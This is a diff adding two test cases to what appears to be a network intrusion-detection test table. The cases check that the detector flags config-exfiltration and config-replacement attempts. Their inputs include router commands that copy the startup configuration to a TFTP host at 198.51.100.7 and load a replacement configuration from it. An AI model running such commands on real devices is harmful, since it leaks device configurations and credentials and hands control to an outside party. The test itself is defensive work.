@@ -65,3 +65,15 @@
     {"a listed director's probe is its work", "192.0.2.1", "",
      "m 1 1 M>D capabilities_request probe\nf 1 1 M>D a 24 0\n", "M>D director-activity attempted info yes 1\n",
      "M director unknown\nD unknown unknown\n"},
+    {"one message orders a file to leave and another to come, one left", "", "",
+     "m 10 2 A>D backup_request config_exfiltration,config_replacement "
+     "c=copy_startup-config_tftp://198.51.100.7/old.conf_copy_tftp://198.51.100.7/new.conf_running-config\n"
+     "f 10 2 A>D a 1048 0\nt 20 5 D>A closed old.conf s 700\n",
+     "A>D config-exfiltration succeeded critical unknown 1\nA>D config-replacement attempted high unknown 1\n",
+     "D unknown unknown\n"},
+    {"one message orders a file to leave and another to come, both moved", "", "",
+     "m 10 2 A>D backup_request config_exfiltration,config_replacement "
+     "c=copy_startup-config_tftp://198.51.100.7/old.conf_copy_tftp://198.51.100.7/new.conf_running-config\n"
+     "f 10 2 A>D a 1048 0\nt 20 5 D>A closed old.conf s 700\nt 30 6 D>A closed new.conf c 700\n",
+     "A>D config-exfiltration succeeded critical unknown 1\nA>D config-replacement succeeded critical unknown 1\n",
+     "D unknown unknown\n"},
